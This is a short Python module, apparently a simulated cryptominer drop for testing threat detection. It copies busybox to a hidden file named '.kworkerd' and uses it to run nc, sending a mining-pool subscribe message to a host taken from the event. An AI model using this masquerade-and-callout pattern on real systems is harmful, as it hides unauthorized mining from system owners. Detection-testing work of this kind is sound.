"""A miner: dropped, and reporting to its pool."""

import os
import shutil
import subprocess


def attack(event):
    path = os.path.join(event["tmp"], ".kworkerd")
    shutil.copy(shutil.which("busybox"), path)
    host, port = event["web"].split(":")
    hello = b'{"method": "mining.subscribe"}\n'
    subprocess.run(["nc", host, port], executable=path, input=hello, timeout=5)
